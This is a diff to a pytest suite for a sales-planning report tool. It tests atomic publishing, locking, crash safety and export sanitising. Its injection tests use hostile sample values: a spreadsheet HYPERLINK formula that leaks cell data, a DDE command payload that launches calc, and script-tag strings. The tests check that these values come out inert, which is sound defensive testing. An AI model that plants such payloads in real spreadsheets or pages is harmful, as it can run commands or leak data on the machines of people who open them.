@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import errno
 import json
 import os
 from pathlib import Path
@@ -58,37 +59,51 @@ def test_tables_round_trip(tmp_path):
     assert sorted(back) == ["accounts", "reps"] and len(back["accounts"]) == 2
 
 
-def test_publish_replaces_the_previous_pack(tmp_path):
-    final = tmp_path / "FY2027-Q1"
-    final.mkdir()
-    (final / "plan.html").write_text("old")
-    tmp = tmp_path / ".FY2027-Q1.tmp-1"
-    tmp.mkdir()
-    (tmp / "plan.html").write_text("new")
-    publish.publish(tmp, final)
-    assert (final / "plan.html").read_text() == "new"
-    assert not tmp.exists() and not (tmp_path / "FY2027-Q1.prev").exists()
+def _pack(folder: Path, text: str) -> Path:
+    folder.mkdir(parents=True)
+    for name in PACK_FILES:
+        (folder / name).write_text(text)
+    return folder
 
 
-def test_failed_swap_restores_the_previous_pack(tmp_path, monkeypatch):
-    final = tmp_path / "FY2027-Q1"
-    final.mkdir()
-    (final / "plan.html").write_text("old")
-    tmp = tmp_path / ".FY2027-Q1.tmp-1"
-    tmp.mkdir()
-    real = os.rename
-    calls = []
+PACK_FILES = ("plan.html", "plan.xlsx", "plan.nc", "manifest.json")
 
-    def flaky(src, dst):
-        calls.append((src, dst))
-        if len(calls) == 2:
-            raise OSError("disk full")
-        return real(src, dst)
 
-    monkeypatch.setattr(swap.os, "rename", flaky)
-    with pytest.raises(OSError, match="disk full"):
-        publish.publish(tmp, final)
-    assert (final / "plan.html").read_text() == "old"
+def test_publish_flips_a_link_to_a_new_version(tmp_path):
+    out = tmp_path / "reports"
+    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "old"), out, "FY2027-Q1")
+    first = swap.current_version(out, "FY2027-Q1")
+    swap.publish(_pack(out / ".FY2027-Q1.tmp-2", "new"), out, "FY2027-Q1")
+    assert (out / "FY2027-Q1").is_symlink()
+    assert not os.path.isabs(os.readlink(out / "FY2027-Q1"))
+    assert (out / "FY2027-Q1" / "plan.html").read_text() == "new"
+    assert swap.current_version(out, "FY2027-Q1").parent == out / ".FY2027-Q1"
+    # The previous version stays until the next run cleans up: a reader may have just followed it.
+    assert (first / "plan.html").read_text() == "old"
+    assert swap.clean_leftovers(out, sockets_dir=tmp_path) == [first]
+    assert sorted(p.name for p in out.iterdir()) == [".FY2027-Q1", "FY2027-Q1"]
+
+
+def test_publish_moves_a_pack_of_the_old_layout_aside(tmp_path):
+    out = tmp_path / "reports"
+    _pack(out / "FY2027-Q1", "old")
+    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "new"), out, "FY2027-Q1")
+    assert (out / "FY2027-Q1" / "plan.html").read_text() == "new"
+    moved = [p for p in (out / ".FY2027-Q1").iterdir() if p.name.endswith("-moved")]
+    assert len(moved) == 1 and (moved[0] / "plan.html").read_text() == "old"
+
+
+def test_failed_flip_leaves_the_previous_pack_published(tmp_path, monkeypatch):
+    out = tmp_path / "reports"
+    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "old"), out, "FY2027-Q1")
+
+    def full(src, dst):
+        raise OSError(errno.ENOSPC, "No space left on device", str(dst))
+
+    monkeypatch.setattr(swap.os, "replace", full)
+    with pytest.raises(OSError, match="No space left"):
+        swap.publish(_pack(out / ".FY2027-Q1.tmp-2", "new"), out, "FY2027-Q1")
+    assert (out / "FY2027-Q1" / "plan.html").read_text() == "old"
 
 
 def test_bad_parameters_stop_before_anything_runs(tmp_path):
@@ -234,3 +249,268 @@ def test_plan_command_names_a_bad_parameters_file(tmp_path, capsys):
     err = capsys.readouterr().err
     assert err.startswith(f"error: {bad}: unknown key 'churn'")
     assert not (tmp_path / "reports" / "FY2027-Q1").exists()
+
+
+# --------------------------------------------------------------------------- lock, kill, concurrency
+
+
+def _params(tmp_path: Path) -> Path:
+    from revmodel import sample
+
+    data = tmp_path / "data"
+    sample.write(sample.generate(reps=4, months=24), data)
+    path = tmp_path / "FY2027-Q1.yaml"
+    path.write_text(yaml.safe_dump({"cycle": "FY2027-Q1", "data_dir": str(data)}))
+    return path
+
+
+def test_second_plan_into_the_same_folder_is_refused_naming_the_first(tmp_path):
+    import subprocess
+    import sys
+
+    out = tmp_path / "reports"
+    with swap.locked(out, "FY2027-Q1"):
+        started = json.loads((out / swap.OWNER_FILE).read_text())["started_utc"]
+        second = subprocess.run(
+            [sys.executable, "-m", "revmodel", "plan", "--params", str(_params(tmp_path)),
+             "--out", str(out)],
+            capture_output=True, text=True, timeout=300, check=False,
+        )  # fmt: skip
+    assert second.returncode == 1
+    assert second.stderr.strip().splitlines()[-1] == (
+        f"error: {out}: another run is publishing here (pid {os.getpid()}, started {started}, "
+        "cycle FY2027-Q1); waited 0 s. Let it finish, or stop it, then run again."
+    )
+    assert not (out / "FY2027-Q1").exists()
+
+
+def test_lock_waits_a_bounded_time(tmp_path):
+    import time
+
+    out = tmp_path / "reports"
+    with swap.locked(out, "FY2027-Q1"):
+        t0 = time.monotonic()
+        with (
+            pytest.raises(swap.PublishLocked, match=r"waited 0\.3 s"),
+            swap.locked(out, "FY2027-Q2", wait=0.3),
+        ):
+            pass  # pragma: no cover
+        assert time.monotonic() - t0 >= 0.3
+    with swap.locked(out, "FY2027-Q2"):
+        assert json.loads((out / swap.OWNER_FILE).read_text())["cycle"] == "FY2027-Q2"
+
+
+@pytest.mark.parametrize(
+    ("code", "what"),
+    [(errno.ENOSPC, "no space left on the device"), (errno.EACCES, "permission denied")],
+)
+def test_full_disk_or_no_permission_is_a_clear_message_and_nothing_half_written(
+    tmp_path, monkeypatch, code, what
+):
+    from revmodel.publish import run
+
+    out = tmp_path / "reports"
+    swap.publish(_pack(out / ".FY2027-Q1.tmp-1", "old"), out, "FY2027-Q1")
+
+    def half_written(settings, out_, tmp, work, notebooks_dir, started):
+        _pack(tmp, "half")
+        work.mkdir()
+        raise OSError(code, os.strerror(code), str(tmp / "plan.xlsx"))
+
+    monkeypatch.setattr(run, "_build", half_written)
+    with pytest.raises(swap.PublishError) as err:
+        run.plan(_params(tmp_path), out_dir=out)
+    tmp = out / f".FY2027-Q1.tmp-{os.getpid()}"
+    assert str(err.value) == (
+        f"{tmp / 'plan.xlsx'}: {what} while writing the pack; nothing was published and the "
+        f"previous pack of {out} is untouched. Free some space or fix the permissions, then run again."
+    )
+    assert (out / "FY2027-Q1" / "plan.html").read_text() == "old"
+    assert sorted(p.name for p in out.iterdir()) == [".FY2027-Q1", ".publish.lock", "FY2027-Q1"]
+
+
+#: A publisher as a separate program: publishes fake packs in a loop, the way ``plan`` does.
+_PUBLISHER = """
+import os, pathlib, shutil, sys
+from revmodel.publish import swap
+out, n = pathlib.Path(sys.argv[1]), int(sys.argv[2])
+socket = pathlib.Path(sys.argv[3]) / f"{swap.KERNEL_SOCKET_PREFIX}{os.getpid()}-abc-1"
+socket.write_text("")
+for i in range(n):
+    with swap.locked(out, "FY2027-Q1", wait=60):
+        swap.clean_leftovers(out, sockets_dir=socket.parent)
+        tmp, work = swap.staging(out, "FY2027-Q1")
+        work.mkdir()
+        (work / "cube.nc").write_bytes(b"x" * 200_000)
+        tmp.mkdir()
+        for name in ("plan.html", "plan.xlsx", "plan.nc", "manifest.json"):
+            (tmp / name).write_text(f"{i}\\n" * 50_000)
+        swap.publish(tmp, out, "FY2027-Q1")
+        shutil.rmtree(work)
+    print(i, flush=True)
+socket.unlink()  # a kernel that shuts down removes its sockets
+"""
+
+
+def _pack_is_whole(out: Path) -> None:
+    texts = {(out / "FY2027-Q1" / name).read_text() for name in PACK_FILES}
+    assert len(texts) == 1 and len(texts.pop()) > 0
+
+
+@pytest.mark.slow
+def test_publish_killed_at_random_points_leaves_the_last_pack_and_no_leftovers(tmp_path):
+    import random
+    import signal
+    import subprocess
+    import sys
+    import time
+
+    out, sockets = tmp_path / "reports", tmp_path / "sockets"
+    sockets.mkdir()
+    rng = random.Random(12)
+    killed = 0
+    for _ in range(8):
+        child = subprocess.Popen(
+            [sys.executable, "-c", _PUBLISHER, str(out), "1000", str(sockets)],
+            stdout=subprocess.PIPE, text=True,
+        )  # fmt: skip
+        assert child.stdout.readline().strip().isdigit()  # one publish done: now in the loop
+        time.sleep(rng.uniform(0.0, 0.25))
+        os.kill(child.pid, signal.SIGKILL)
+        child.wait(timeout=60)
+        killed += child.returncode == -signal.SIGKILL
+        _pack_is_whole(out)
+    assert killed == 8
+    assert list(sockets.iterdir())  # the killed run's kernel socket
+    done = subprocess.run(
+        [sys.executable, "-c", _PUBLISHER, str(out), "1", str(sockets)],
+        capture_output=True, text=True, timeout=300, check=True,
+    )  # fmt: skip
+    assert done.stdout.strip() == "0"
+    _pack_is_whole(out)
+    assert (out / "FY2027-Q1" / "plan.html").read_text().startswith("0\n")
+    assert not list(out.glob(".FY2027-Q1.*-*"))
+    assert len(list((out / ".FY2027-Q1").iterdir())) <= 2  # the pack and the one before
+    assert [p.name for p in sockets.iterdir()] == []  # the last run's socket went with it
+
+
+@pytest.mark.slow
+def test_readers_never_find_the_pack_missing_while_two_runs_publish(tmp_path):
+    import subprocess
+    import sys
+    import threading
+
+    out, sockets = tmp_path / "reports", tmp_path / "sockets"
+    sockets.mkdir()
+    subprocess.run([sys.executable, "-c", _PUBLISHER, str(out), "1", str(sockets)], check=True)
+    publishers = [
+        subprocess.Popen([sys.executable, "-c", _PUBLISHER, str(out), "50", str(sockets)],
+                         stdout=subprocess.DEVNULL)
+        for _ in range(2)
+    ]  # fmt: skip
+    looks, missing, torn = 0, 0, 0
+
+    def read() -> None:
+        nonlocal looks, missing, torn
+        while any(p.poll() is None for p in publishers) and looks < 2_000_000:
+            looks += 1
+            try:
+                text = (out / "FY2027-Q1" / "plan.html").read_text()
+            except FileNotFoundError:
+                missing += 1
+                continue
+            lines = text.split("\n")
+            torn += len(lines) != 50_001 or len(set(lines[:-1])) != 1 or lines[-1] != ""
+
+    reader = threading.Thread(target=read)
+    reader.start()
+    for p in publishers:
+        assert p.wait(timeout=600) == 0
+    reader.join(timeout=60)
+    assert looks > 100 and missing == 0 and torn == 0
+    _pack_is_whole(out)
+    assert not list(out.glob(".FY2027-Q1.*-*"))
+
+
+# --------------------------------------------------------------------------- injection
+
+#: Names an export may carry that a spreadsheet would run or a browser would execute.
+HOSTILE = (
+    '=HYPERLINK("http://x"&A2,"Hannah")',
+    "=cmd|' /C calc'!A0",
+    "=1+1",
+    "@SUM(1)",
+    "+1",
+    "-1+1",
+    "<script>alert(1)</script>",
+)
+
+
+def assert_workbook_inert(path: Path) -> int:
+    """Every cell of every sheet is text or a number, never a formula; returns the cells seen."""
+    wb = openpyxl.load_workbook(path)
+    seen = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                seen += 1
+                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
+                if isinstance(c.value, str):
+                    assert not c.value.startswith(formatting.FORMULA_TRIGGERS), (
+                        f"{ws.title}!{c.coordinate} starts with a formula trigger: {c.value!r}"
+                    )
+    return seen
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [(h, "'" + h) for h in HOSTILE[:6]]
+    + [("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("Hannah Murphy", "Hannah Murphy"),
+       ("<script>alert(1)</script>", "<script>alert(1)</script>"), (-1.5, -1.5), (None, None)],
+)  # fmt: skip
+def test_inert_text(value, written):
+    assert formatting.inert_text(value) == written
+    assert formatting.restore_text(formatting.inert_text(value)) == value
+
+
+def test_excel_writes_hostile_names_as_text(tmp_path):
+    names = list(HOSTILE)
+    tables = {
+        "quotas_by_rep": pd.DataFrame(
+            {"rep": names, "manager": names[::-1], "region": names, "quota_year": [-1.0] * 7}
+        ),
+        "territories": pd.DataFrame({"account": names, "potential": range(7)}),
+        "forecast_by_level": pd.DataFrame({"level": ["rep"] * 7, "name": names}),
+    }
+    summ = {**_summary(), "cycle": "=1+1"}
+    path = publish.write_excel(tmp_path / "plan.xlsx", summ, tables)
+    assert assert_workbook_inert(path) > 40
+    wb = openpyxl.load_workbook(path)
+    assert wb["Quotas by rep"]["A2"].value == "'" + HOSTILE[0]
+    assert wb["Quotas by rep"]["A8"].value == "<script>alert(1)</script>"
+    assert wb["Quotas by rep"]["D2"].value == -1.0  # numbers stay numbers
+    assert wb["Summary"]["B2"].value == "'=1+1"
+
+
+def test_html_escapes_hostile_names():
+    names = list(HOSTILE)
+    tables = {
+        "scenarios": pd.DataFrame({"scenario": names, "target": [1.0] * 7}),
+        "forecast_by_level": pd.DataFrame(
+            {"level": ["region", "segment", "manager", "rep"] * 2, "name": names + ["x"]}
+        ),
+    }
+    params = {"cycle": "FY2027-Q1", "allocation_basis": "<script>alert(2)</script>"}
+    page = publish.render_html(_summary(), tables, {}, params, "/*plotly*/")
+    assert "<script>alert" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert page.count("<script") == 1  # plotly.js, inline
+
+
+def test_csv_export_is_inert(tmp_path):
+    path = formatting.write_csv(
+        pd.DataFrame({"rep": list(HOSTILE), "n": range(7)}), tmp_path / "x.csv"
+    )
+    back = pd.read_csv(path)
+    assert not back["rep"].str.startswith(formatting.FORMULA_TRIGGERS).any()
+    assert list(back["rep"].map(formatting.restore_text)) == list(HOSTILE)
